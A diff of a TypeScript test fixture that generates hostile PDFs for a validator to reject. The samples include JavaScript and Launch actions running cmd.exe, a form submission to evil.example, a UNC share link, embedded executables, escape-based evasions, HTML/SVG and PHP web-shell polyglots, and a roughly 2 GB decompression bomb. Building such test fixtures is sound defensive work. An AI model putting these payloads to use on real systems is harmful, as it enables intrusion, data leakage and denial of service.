@@ -1,9 +1,11 @@
-import { PDFDocument } from 'pdf-lib'
+import { constants, deflateRawSync, deflateSync } from 'node:zlib'
+import { PDFDocument } from '@cantoo/pdf-lib'
 import { CANARY, type Hostile } from '#test/hostile.ts'
 
 const text = (value: string) => Buffer.from(value, 'latin1')
 const notPdf = async (bytes: Buffer) => ({ bytes, reason: 'bioDataNotPdf' as const })
 const encrypted = async (bytes: Buffer) => ({ bytes, reason: 'bioDataEncrypted' as const })
+const notPlain = async (bytes: Buffer) => ({ bytes, reason: 'bioDataNotPlain' as const })
 const kept = async (bytes: Buffer) => ({ bytes, reason: null })
 
 const LOCK = '<< /Filter /Standard /V 2 /R 3 /Length 128 /O <00> /U <00> /P -44 >>'
@@ -36,15 +38,214 @@ function lockedThenUpdated(): Buffer {
   return text(`${first}${xref}\nstartxref\n${first.length}\n%%EOF`)
 }
 
-async function withScript(): Promise<Buffer> {
+const SCRIPT = `<< /S /JavaScript /JS (app.alert("${CANARY}")) >>`
+const LAUNCH = `<< /S /Launch /F (cmd.exe ${CANARY}) >>`
+const PAGES = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>'
+const PAGE = (more = '') => `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] ${more} >>`
+const CATALOG = (more = '') => `<< /Type /Catalog /Pages 2 0 R ${more} >>`
+
+interface Parts {
+  catalog?: string
+  page?: string
+  /** Objects from number 4 on. */
+  more?: string[]
+  /** Between the header and the first object. */
+  early?: string
+}
+
+/** A PDF of one page, its objects written as they are. */
+function plainPdf({ catalog = '', page = '', more = [], early = '' }: Parts): Buffer {
+  const objects = [CATALOG(catalog), PAGES, PAGE(page), ...more]
+  let body = `%PDF-1.7\n${early}`
+  const places = objects.map((content, i) => {
+    const at = body.length
+    body += `${i + 1} 0 obj\n${content}\nendobj\n`
+    return `${String(at).padStart(10, '0')} 00000 n \n`
+  })
+  const count = objects.length + 1
+  const table = `xref\n0 ${count}\n0000000000 65535 f \n${places.join('')}`
+  return text(`${body}${table}trailer\n<< /Size ${count} /Root 1 0 R >>\nstartxref\n${body.length}\n%%EOF\n`)
+}
+
+const stream = (dictionary: string, contents: string) =>
+  `<< ${dictionary} /Length ${contents.length} >>\nstream\n${contents}\nendstream`
+
+/** An object stream with these objects, numbered from `first` on. */
+function objectStream(objects: string[], first: number, more = ''): string {
+  let at = 0
+  const places = objects.map((content, i) => {
+    const place = `${first + i} ${at}`
+    at += content.length + 1
+    return place
+  })
+  const index = `${places.join(' ')} `
+  const packed = deflateSync(text(`${index}${objects.join(' ')}`)).toString('latin1')
+  return stream(`/Type /ObjStm /N ${objects.length} /First ${index.length} /Filter /FlateDecode ${more}`, packed)
+}
+
+/** The same PDF with another edition behind it, which writes these objects again. */
+function edited(first: Buffer, objects: Record<number, string>): Buffer {
+  const before = first.toString('latin1')
+  const previous = /startxref\s+(\d+)/.exec(before)?.[1]
+  let body = ''
+  const sections = Object.entries(objects).map(([number, content]) => {
+    const at = before.length + body.length
+    body += `${number} 0 obj\n${content}\nendobj\n`
+    return `${number} 1\n${String(at).padStart(10, '0')} 00000 n \n`
+  })
+  const at = before.length + body.length
+  const trailer = `trailer\n<< /Size 40 /Root 1 0 R /Prev ${previous} >>\nstartxref\n${at}\n%%EOF\n`
+  return text(`${before}${body}xref\n${sections.join('')}${trailer}`)
+}
+
+const hiddenIn = (contents: string) => plainPdf({ more: [stream('', contents)] })
+const zipEnd = (comment: number) =>
+  `PK\u0005\u0006${'\u0000'.repeat(16)}${String.fromCharCode(comment & 255, comment >> 8)}`
+
+async function withScript(useObjectStreams: boolean): Promise<Buffer> {
   const document = await PDFDocument.create()
   document.addPage().drawText(CANARY)
   document.addJavaScript('run', `app.alert("${CANARY}")`)
-  return Buffer.from(await document.save({ useObjectStreams: false }))
+  return Buffer.from(await document.save({ useObjectStreams }))
 }
 
-/** PDFs that are locked, broken or none; those that only do something when opened are kept, for download alone. */
+async function withFile(useObjectStreams: boolean): Promise<Buffer> {
+  const document = await PDFDocument.create()
+  document.addPage()
+  await document.attach(text(`MZ${CANARY}`), 'program.exe', { mimeType: 'application/octet-stream' })
+  return Buffer.from(await document.save({ useObjectStreams }))
+}
+
+/** PDFs in which something acts: a script, a program, a form that is sent, a file inside. */
+const ACTIVE: Record<string, () => Buffer | Promise<Buffer>> = {
+  'a script by name, written by a library': () => withScript(false),
+  'a script by name in an object stream': () => withScript(true),
+  'a file inside, written by a library': () => withFile(false),
+  'a file inside, in an object stream': () => withFile(true),
+  'a script when opened': () => plainPdf({ catalog: `/OpenAction ${SCRIPT}` }),
+  'a script when opened, by reference': () => plainPdf({ catalog: '/OpenAction 4 0 R', more: [SCRIPT] }),
+  'a script when closed': () => plainPdf({ catalog: `/AA << /WC ${SCRIPT} >>` }),
+  'a script of a page': () => plainPdf({ page: `/AA << /O ${SCRIPT} >>` }),
+  'a script of an annotation': () =>
+    plainPdf({ page: `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${SCRIPT} >>]` }),
+  'a script of an annotation, by reference': () =>
+    plainPdf({ page: '/Annots 4 0 R', more: ['[5 0 R]', '<< /Subtype /Link /A 6 0 R >>', SCRIPT] }),
+  'a script of a form field': () =>
+    plainPdf({ page: `/Annots [<< /Subtype /Widget /FT /Tx /AA << /K ${SCRIPT} /F ${SCRIPT} >> >>]` }),
+  'a script after another action': () =>
+    plainPdf({ catalog: `/OpenAction << /S /URI /URI (https://example.in) /Next [${SCRIPT}] >>` }),
+  'a script nested in arrays': () => plainPdf({ more: [`[[[[<< /A [[${SCRIPT}]] >>]]]]`] }),
+  'a script of an outline': () => plainPdf({ more: [`<< /Title (One) /A ${SCRIPT} >>`] }),
+  'a script in a names tree': () => plainPdf({ catalog: `/Names << /JavaScript << /Names [(a) ${SCRIPT}] >> >>` }),
+  'a script, the value with escapes': () => plainPdf({ catalog: '/OpenAction << /S /J#61vaScr#69pt /JS (1) >>' }),
+  'a script, all of it escaped': () =>
+    plainPdf({ catalog: '/OpenAction << /S /#4A#61#76#61#53#63#72#69#70#74 /JS (1) >>' }),
+  'a script, escapes in small letters': () => plainPdf({ catalog: '/OpenAction << /S /#4aavaScript /JS (1) >>' }),
+  'a script, the key escaped': () => plainPdf({ catalog: '/OpenAction << /#53 /JavaScript /JS (1) >>' }),
+  'a script, a comment between key and value': () =>
+    plainPdf({ catalog: '/OpenAction << /S%x\n/JavaScript /JS (1) >>' }),
+  'a script, no space between key and value': () => plainPdf({ catalog: '/OpenAction<</S/JavaScript/JS(1)>>' }),
+  'a script, the value an object of its own': () =>
+    plainPdf({ catalog: '/OpenAction << /S 4 0 R /JS (1) >>', more: ['/JavaScript'] }),
+  'a script, the key twice': () => plainPdf({ catalog: '/OpenAction << /S /JavaScript /S /URI /JS (1) >>' }),
+  'a script in an object stream': () => plainPdf({ more: [objectStream([SCRIPT], 9)] }),
+  'a script in an object stream, escaped': () =>
+    plainPdf({ more: [objectStream(['<< /S /#4AavaScript /JS (1) >>'], 9)] }),
+  'a script in an object stream, escaped in small letters': () =>
+    plainPdf({ more: [objectStream(['<< /S /#4aavaScript /JS (1) >>'], 9)] }),
+  'a script in an object stream, the key twice': () =>
+    plainPdf({ more: [objectStream(['<< /S /JavaScript /S /URI /JS (1) >>'], 9)] }),
+  'a script in an object stream, as an object of its own': () =>
+    plainPdf({ more: [objectStream(['<< /S 10 0 R /JS (1) >>', '/JavaScript'], 9)] }),
+  'a script in the second of two object streams': () =>
+    plainPdf({ more: [objectStream(['<< >>'], 9), objectStream(['[1 2]', SCRIPT], 10)] }),
+  'a script that a later edition adds': () => edited(plainPdf({}), { 1: CATALOG('/OpenAction 9 0 R'), 9: SCRIPT }),
+  'a script that a later edition takes away': () =>
+    edited(plainPdf({ catalog: `/OpenAction ${SCRIPT}` }), { 1: CATALOG() }),
+  'a script in an object stream that a later edition replaces': () =>
+    edited(plainPdf({ more: [objectStream([SCRIPT], 9)] }), { 4: '<< >>', 9: '<< >>' }),
+  'a script in the third edition': () =>
+    edited(edited(plainPdf({}), { 3: PAGE() }), { 3: PAGE(`/AA << /O ${SCRIPT} >>`) }),
+  'a script in an object that the table does not name': () => plainPdf({ early: `9 0 obj\n${SCRIPT}\nendobj\n` }),
+  'a script inside a stream, where the table may point': () => hiddenIn(`9 0 obj\n${SCRIPT}\nendobj`),
+  'a script of a rendition': () => plainPdf({ catalog: '/OpenAction << /S /Rendition /OP 0 /JS (1) >>' }),
+  'a program when opened': () => plainPdf({ catalog: `/OpenAction ${LAUNCH}` }),
+  'a program of an annotation': () => plainPdf({ page: `/Annots [<< /Subtype /Link /A ${LAUNCH} >>]` }),
+  'a program in an object stream': () => plainPdf({ more: [objectStream([LAUNCH], 9)] }),
+  'a program, the value escaped': () => plainPdf({ catalog: '/OpenAction << /S /L#61unch /F (x) >>' }),
+  'a program for one system': () =>
+    plainPdf({ catalog: '/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>' }),
+  'a form that is sent': () => plainPdf({ catalog: '/OpenAction << /S /SubmitForm /F (https://evil.example) >>' }),
+  'a form that is filled from outside': () => plainPdf({ catalog: '/OpenAction << /S /ImportData /F (x.fdf) >>' }),
+  'a form of another kind': () =>
+    plainPdf({ catalog: '/AcroForm << /Fields [] /XFA 4 0 R >>', more: [stream('', '<a/>')] }),
+  'another file that is opened': () =>
+    plainPdf({ catalog: '/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\share) /D [0 /Fit] >>' }),
+  'a file inside that is opened': () => plainPdf({ catalog: '/OpenAction << /S /GoToE /T << /R /C /N (a) >> >>' }),
+  'a film': () => plainPdf({ page: '/Annots [<< /Subtype /Screen /Rect [0 0 9 9] >>]' }),
+  'a rich film': () => plainPdf({ page: '/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] >>]' }),
+  'a thing in three dimensions': () => plainPdf({ page: '/Annots [<< /Subtype /3D /Rect [0 0 9 9] >>]' }),
+  'a file pinned to a page': () =>
+    plainPdf({ page: '/Annots [<< /Subtype /FileAttachment /FS 4 0 R >>]', more: ['<< >>'] }),
+  'a file inside without a type': () =>
+    plainPdf({ more: ['<< /F (a.exe) /EF << /F 5 0 R >> >>', stream('', `MZ${CANARY}`)] }),
+  'a file inside, its key escaped': () =>
+    plainPdf({ more: ['<< /UF (a.exe) /#45#46 << /F 5 0 R >> >>', stream('', `MZ${CANARY}`)] }),
+  'a file inside, named by nobody': () => plainPdf({ more: [stream('/Type /EmbeddedFile', `MZ${CANARY}`)] }),
+  'a folder of files': () => plainPdf({ catalog: '/Collection << /View /D >>' }),
+}
+
+/** PDFs that another program opens as something else. */
+const POLYGLOTS: Record<string, () => Buffer> = {
+  'a web page in a comment': () => plainPdf({ early: `%<html><script>alert("${CANARY}")</script></html>\n` }),
+  'a web page in a stream': () => hiddenIn(`<!DOCTYPE html><html><body>${CANARY}</body></html>`),
+  'a web page in a text': () => plainPdf({ more: [`(<SCRIPT >alert("${CANARY}")</SCRIPT>)`] }),
+  'a drawing with a script': () => hiddenIn(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">`),
+  'a page of PHP': () => plainPdf({ early: '%<?php system($_GET["c"]); ?>\n' }),
+  'a ZIP in its last stream': () => hiddenIn(`PK\u0003\u0004${CANARY}PK\u0001\u0002${zipEnd(300)}`),
+  'a ZIP with the rest as its comment': () => plainPdf({ more: [`(${zipEnd(1)})`] }),
+  'a RAR in a stream': () => hiddenIn(`Rar!\u001a\u0007\u0001${CANARY}`),
+  'a 7z in a stream': () => hiddenIn(`7z\u00bc\u00af\u0027\u001c${CANARY}`),
+  'a disk image': () => {
+    const bytes = plainPdf({ more: [stream('', 'x'.repeat(40_000))] })
+    bytes.write('CD001', 32_769)
+    return bytes
+  },
+  'a tape archive': () => {
+    const bytes = plainPdf({ early: `%${'x'.repeat(400)}\n` })
+    bytes.write('ustar', 257)
+    return bytes
+  },
+}
+
+/** Object streams that are read one way here and another way elsewhere, or that are made to hold up whoever reads them. */
+const UNREADABLE: Hostile = {
+  'an object stream with a predictor': () =>
+    notPdf(plainPdf({ more: [objectStream([SCRIPT], 9, '/DecodeParms << /Predictor 12 /Columns 4 >>')] })),
+  'an object stream that is not compressed as it says': () =>
+    notPdf(plainPdf({ more: [stream('/Type /ObjStm /N 1 /First 4 /Filter /Unknown', '9 0 << >>')] })),
+  'an object stream inside a stream': () => notPlain(hiddenIn(`9 0 obj\n${objectStream([SCRIPT], 10)}\nendobj`)),
+  'an object stream that unpacks to 2 GB': async () => ({
+    bytes: plainPdf({ more: [bomb()] }),
+    reason: 'fileTooHard',
+  }),
+}
+
+/** Zeros packed twice, so that little is sent. */
+function bomb(): string {
+  const part = deflateRawSync(Buffer.alloc(20_000_000), { finishFlush: constants.Z_FULL_FLUSH })
+  const once = Buffer.concat([Buffer.from([0x78, 0x9c]), ...Array(100).fill(part), Buffer.from([3, 0, 0, 0, 0, 0])])
+  return stream('/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode]', deflateSync(once).toString('latin1'))
+}
+
+const each = (made: Record<string, () => Buffer | Promise<Buffer>>): Hostile =>
+  Object.fromEntries(Object.entries(made).map(([name, make]) => [name, async () => notPlain(await make())]))
+
+/** PDFs that are locked, broken, none, or more than a PDF to look at. */
 export const HOSTILE_PDFS: Hostile = {
+  ...each(ACTIVE),
+  ...each(POLYGLOTS),
+  ...UNREADABLE,
   'locked by the trailer': () => encrypted(pdf({ trailer: '/Encrypt 3 0 R' })),
   'locked by a dictionary in the trailer': () => encrypted(pdf({ trailer: `/Encrypt ${LOCK}` })),
   'locked, the key written with escapes': () => encrypted(pdf({ trailer: '/#45ncr#79pt 3 0 R' })),
@@ -80,9 +281,6 @@ export const HOSTILE_PDFS: Hostile = {
   'a Word file': () => notPdf(Buffer.concat([text('PK\u0003\u0004'), Buffer.alloc(500)])),
   'a picture': () => notPdf(Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 16])),
   'nothing at all': () => notPdf(Buffer.alloc(0)),
-  'one that runs a script when opened': async () => kept(await withScript()),
-  'one that starts a program when opened': () =>
-    kept(pdf({ object: `<< /Type /Action /S /Launch /F (cmd.exe ${CANARY}) >>` })),
   'one with a stream of cross-references': () => kept(streamPdf()),
 }
 
